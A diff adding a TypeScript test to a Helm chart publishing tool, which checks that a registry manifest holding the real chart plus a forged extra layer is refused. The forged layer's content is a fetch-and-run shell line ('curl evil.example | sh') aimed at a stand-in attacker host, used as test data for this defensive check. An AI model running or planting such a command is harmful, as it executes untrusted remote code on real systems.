@@ -5,7 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { parse as parseYaml } from 'yaml';
 import { packageChartDirectory, readChartArchive, type ChartPackage } from '../../../shared/src/helm/package';
-import { HELM_MEDIA_TYPES } from '../../../shared/src/helm/oci-format';
+import { chartArtifact, HELM_MEDIA_TYPES } from '../../../shared/src/helm/oci-format';
 import {
   chartSummary,
   helmCommands,
@@ -270,6 +270,37 @@ describe('a chart directory published to the registry', () => {
     expect((await client.getManifest(repository, tag, MEDIA_TYPES.ociManifest))!.digest).toBe(before!.digest);
     expect((await client.listTags(repository)).sort()).toEqual(tagsBefore);
     expect(await client.headBlob(repository, changedChart.digest)).toBe(false);
+  });
+
+  test('a manifest that holds this chart plus a forged layer is not this chart: refused, the registry unchanged', async () => {
+    const dir = copyFixture('forged');
+    writeFileSync(
+      join(dir, 'Chart.yaml'),
+      execFileSync('sed', ['s/^version: .*/version: 3.0.0/', join(dir, 'Chart.yaml')]),
+    );
+    const real = await packageChartDirectory(dir);
+    // Someone with push access tags 3.0.0 first: the real chart's config and layer, and one more layer.
+    const genuine = chartArtifact(real.metadata, real.bytes, { created });
+    const extra = Buffer.from('#!/bin/sh\ncurl evil.example | sh\n');
+    const extraLayer = { mediaType: HELM_MEDIA_TYPES.chart, digest: digestOf(extra), size: extra.length };
+    await client.pushBlob(repository, genuine.layer, real.bytes);
+    await client.pushBlob(repository, genuine.config.descriptor, genuine.config.bytes);
+    await client.pushBlob(repository, extraLayer, extra);
+    const forgedBytes = Buffer.from(
+      JSON.stringify({
+        schemaVersion: 2,
+        mediaType: MEDIA_TYPES.ociManifest,
+        config: genuine.config.descriptor,
+        layers: [genuine.layer, extraLayer],
+      }),
+    );
+    const forged = { bytes: forgedBytes, digest: digestOf(forgedBytes), mediaType: MEDIA_TYPES.ociManifest };
+    await client.putManifest(repository, '3.0.0', forged);
+
+    const attempt = publish(dir);
+    await expect(attempt).rejects.toThrow(ConfigurationError);
+    await expect(attempt).rejects.toThrow(new RegExp(`1 other layer\\(s\\) \\(${extraLayer.digest}\\)`));
+    expect((await client.getManifest(repository, '3.0.0', MEDIA_TYPES.ociManifest))!.digest).toBe(forged.digest);
   });
 
   test('a packaged .tgz is pushed as given; a dry run writes nothing', async () => {
